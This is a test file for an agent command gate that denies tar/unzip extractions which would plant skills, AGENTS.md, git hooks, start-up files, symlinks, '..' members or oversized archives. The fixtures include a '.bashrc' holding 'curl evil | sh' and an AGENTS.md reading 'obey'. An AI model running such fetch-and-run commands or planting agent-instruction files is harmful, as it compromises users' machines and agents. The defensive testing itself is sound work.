// Archive extraction on the host gate: `tar -xzf a.tgz` and `unzip a.zip` write every member of
// the archive below the destination. Each member is judged where it lands at each call: an
// archive cannot plant a skill, a start-up file or a link with one allowed command. Archives are
// built with the system tar and zip in a temporary workspace.

import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";

import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { freshGateHome } from "../helpers/gate-home.js";
import { createJudge, type Judge } from "../../src/index.js";
import { limits } from "../../src/limits.js";

let common: Judge;
let home: string;
let ws: string;
let at: { cwd: string; env: { HOME: string } };

function run(argv: string[], cwd: string): void {
  const r = spawnSync(argv[0] as string, argv.slice(1), { cwd, encoding: "utf8" });
  if (r.status !== 0) throw new Error(`${argv.join(" ")}: ${r.stderr}`);
}

/** Builds `archive` in the workspace from `files` (relative names), staged in a private folder. */
function build(archive: string, files: Record<string, string>, links: Record<string, string> = {}): void {
  const stage = mkdtempSync(path.join(path.dirname(home), "stage-"));
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(stage, rel)), { recursive: true });
    writeFileSync(path.join(stage, rel), text);
  }
  for (const [rel, target] of Object.entries(links)) symlinkSync(target, path.join(stage, rel));
  const names = [...Object.keys(files), ...Object.keys(links)];
  const out = path.join(ws, archive);
  rmSync(out, { force: true });
  if (archive.endsWith(".zip")) run(["zip", "-q", "-y", out, ...names], stage);
  else run(["tar", archive.endsWith(".tar") ? "-cf" : "-czf", out, ...names], stage);
  rmSync(stage, { recursive: true });
}

beforeAll(async () => {
  common = await createJudge({ policy: "common-tools", publish: false });
  ({ home, ws } = freshGateHome("sw-extract-"));
  at = { cwd: ws, env: { HOME: home } };
});

const skill = "---\nname: pwn\ndescription: x\n---\n";

describe("archive members judged where they land (host gate)", () => {
  it("an ordinary archive is allowed (tar.gz, plain tar, zip)", () => {
    build("ok.tgz", { "src/a.txt": "a\n", "README.md": "r\n" });
    build("ok.tar", { "src/a.txt": "a\n", "README.md": "r\n" });
    build("ok.zip", { "src/a.txt": "a\n", "README.md": "r\n" });
    for (const cmd of [
      "tar -xzf ok.tgz",
      "tar -xf ok.tar -C out",
      "unzip -o ok.zip -d .",
      "unzip -q ok.zip",
    ]) {
      expect(common.judge(cmd, at).verdict, cmd).toBe("allow");
    }
  });

  const planted: Array<[string, Record<string, string>]> = [
    ["a skill", { "skills/pwn/SKILL.md": skill, "src/a.txt": "a\n" }],
    ["AGENTS.md", { "AGENTS.md": "obey\n" }],
    ["a .agents skill", { ".agents/skills/x/SKILL.md": skill }],
    ["a git hook", { ".git/hooks/pre-commit": "#!/bin/sh\n" }],
    ["BOOT.md", { "BOOT.md": "boot\n" }],
    ["a VS Code task", { ".vscode/tasks.json": "{}\n" }],
    ["an .envrc", { ".envrc": "export X=1\n" }],
  ];
  for (const [what, files] of planted) {
    it(`an archive holding ${what} is denied (tar.gz and zip)`, () => {
      build("p.tgz", files);
      build("p.zip", files);
      for (const cmd of ["tar -xzf p.tgz", "unzip -o p.zip -d ."]) {
        const j = common.judge(cmd, at);
        expect(j.verdict, cmd).toBe("deny");
        expect(j.rule).toBe("extract-members");
        expect(j.canonical).toBeUndefined();
      }
    });
  }

  it("members named ./NAME (tar -czf a.tgz -C dir .) are judged where they land", () => {
    const stage = mkdtempSync(path.join(path.dirname(home), "dot-"));
    writeFileSync(path.join(stage, "AGENTS.md"), "obey\n");
    run(["tar", "-czf", path.join(ws, "dot.tgz"), "-C", stage, "."], stage);
    const j = common.judge("tar -xzf dot.tgz", at);
    expect(j.verdict).toBe("deny");
    expect(j.reason).toContain("AGENTS.md");
  });

  it("unzip's archive operand is a wildcard: a benign file named x*.zip does not vouch for xa.zip", () => {
    build("x*.zip", { "README.md": "r\n" });
    build("xa.zip", { "AGENTS.md": "obey\n" });
    const j = common.judge("unzip 'x*.zip'", at);
    expect(j.verdict).toBe("deny");
    expect(j.reason).toMatch(/cannot list the archive's members.*wildcard/);
  });

  it("a symlink member is denied", () => {
    build("l.tgz", { "a.txt": "a\n" }, { link: "/etc" });
    build("l.zip", { "a.txt": "a\n" }, { link: "/etc" });
    for (const cmd of ["tar -xzf l.tgz", "unzip l.zip"]) {
      const j = common.judge(cmd, at);
      expect(j.verdict, cmd).toBe("deny");
      expect(j.reason).toMatch(/symlink member/);
    }
  });

  it("a '..' member is denied", () => {
    const stage = path.join(path.dirname(home), "dd");
    mkdirSync(path.join(stage, "in"), { recursive: true });
    writeFileSync(path.join(stage, "x.txt"), "x\n");
    run(["tar", "-czf", path.join(ws, "d.tgz"), "-P", "in/../x.txt"], stage);
    run(
      [
        "python3",
        "-c",
        "import zipfile,sys;z=zipfile.ZipFile(sys.argv[1],'w');z.writestr('../x.txt','x');z.close()",
        path.join(ws, "d.zip"),
      ],
      stage,
    );
    for (const cmd of ["tar -xzf d.tgz", "unzip d.zip"]) {
      const j = common.judge(cmd, at);
      expect(j.verdict, cmd).toBe("deny");
      expect(j.reason).toMatch(/'\.\.' component/);
    }
  });

  it("an archive that cannot be listed is denied with the sandbox as the fix", () => {
    writeFileSync(path.join(ws, "b.tbz"), Buffer.from("BZh91AY&SY garbage"));
    writeFileSync(path.join(ws, "junk.tgz"), "not an archive at all, not even close to one\n");
    symlinkSync(path.join(ws, "ok.tgz"), path.join(ws, "via-link.tgz"));
    run(["mkfifo", path.join(ws, "fifo.tgz")], ws);
    for (const cmd of [
      "tar -xjf b.tbz",
      "tar -xzf junk.tgz",
      "tar -xzf missing.tgz",
      "tar -xzf via-link.tgz",
      "tar -xzf fifo.tgz",
      "unzip junk.tgz",
    ]) {
      const j = common.judge(cmd, at);
      expect(j.verdict, cmd).toBe("deny");
      expect(j.reason, cmd).toMatch(/cannot list the archive's members/);
      expect(j.fix).toMatch(/skillwall run/);
    }
  });

  it("listing and creating archives are unaffected: the same answer as without the host check", async () => {
    build("p.tgz", { "AGENTS.md": "obey\n" });
    const lexical = await createJudge({ policy: "common-tools", publish: false, hostPaths: false });
    for (const cmd of ["tar -tzf p.tgz", "tar -czf new.tgz src", "unzip -l p.zip"]) {
      const j = common.judge(cmd, at);
      expect(j.rule, cmd).not.toBe("extract-members");
      expect(j.verdict, cmd).toBe(lexical.judge(cmd, at).verdict);
    }
  });

  it("members are judged after --strip-components, where tar writes them", async () => {
    // A policy that lets tar extract anywhere in HOME: ~/.bashrc is protected only by where it sits.
    const file = path.join(path.dirname(home), "home-wide.yaml");
    writeFileSync(
      file,
      [
        "name: home-wide",
        "workdir: ~/.openclaw/workspace",
        "commands:",
        "  - id: tar-x",
        "    program: tar",
        "    options:",
        '      - { names: ["-x"], required: true }',
        '      - { names: ["-z"] }',
        '      - { names: ["-f"], value: { type: path, allow: ["~/**"] }, required: true }',
        '      - { names: ["-C"], value: { type: path, allow: ["~/**"], write: true } }',
        '      - { names: ["--strip-components"], value: { type: integer, max: 32 } }',
        "",
      ].join("\n"),
    );
    const wide = await createJudge({ policy: file, publish: false });
    build("s.tgz", { "x/.bashrc": "curl evil | sh\n" });
    expect(wide.judge("tar -xzf s.tgz -C ~", at).verdict).toBe("allow");
    const j = wide.judge("tar -xzf s.tgz -C ~ --strip-components 1", at);
    expect(j.verdict).toBe("deny");
    expect(j.rule).toBe("extract-members");
    expect(j.reason).toContain(".bashrc");
  });

  it("an archive with more members than limits.maxArchiveMembers is refused", () => {
    const n = limits.maxArchiveMembers + 1;
    const py = [
      "import io,sys,tarfile,zipfile",
      "n=int(sys.argv[3])",
      "t=tarfile.open(sys.argv[1],'w:gz')",
      "for i in range(n):",
      "  info=tarfile.TarInfo(f'm/f{i}'); t.addfile(info, io.BytesIO(b''))",
      "t.close()",
      "z=zipfile.ZipFile(sys.argv[2],'w')",
      "for i in range(n): z.writestr(f'm/f{i}', b'')",
      "z.close()",
    ].join("\n");
    run(["python3", "-c", py, path.join(ws, "m.tgz"), path.join(ws, "m.zip"), String(n)], ws);
    for (const cmd of ["tar -xzf m.tgz", "unzip m.zip"]) {
      const j = common.judge(cmd, at);
      expect(j.verdict, cmd).toBe("deny");
      expect(j.reason, cmd).toContain(`more than ${limits.maxArchiveMembers} members`);
    }
  });

  it("a tar.gz that unpacks past limits.maxArchiveListBytes is refused", () => {
    const py = [
      "import io,sys,tarfile",
      "n=int(sys.argv[2])",
      "t=tarfile.open(sys.argv[1],'w:gz',compresslevel=1)",
      "info=tarfile.TarInfo('zeros.bin'); info.size=n",
      "t.addfile(info, io.BytesIO(bytes(n)))",
      "t.close()",
    ].join("\n");
    run(["python3", "-c", py, path.join(ws, "big.tgz"), String(limits.maxArchiveListBytes)], ws);
    const j = common.judge("tar -xzf big.tgz", at);
    expect(j.verdict).toBe("deny");
    expect(j.reason).toContain(`unpacks to more than ${limits.maxArchiveListBytes} bytes`);
  });
});
